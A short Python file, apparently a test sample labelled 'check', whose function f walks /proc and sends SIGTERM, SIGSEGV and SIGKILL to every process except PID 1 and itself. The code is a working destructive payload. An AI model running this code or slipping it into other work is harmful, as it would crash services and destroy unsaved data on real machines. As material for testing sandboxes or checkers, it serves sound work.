# kinds: check
# Ends or stops every process that it can reach.
import os
import signal

assert os.getpid() != 1 and os.path.exists("/proc/1")


def f(x):
    for pid in [int(n) for n in os.listdir("/proc") if n.isdecimal()]:
        if pid not in (1, os.getpid()):
            for number in (signal.SIGTERM, signal.SIGSEGV, signal.SIGKILL):
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
    return 0
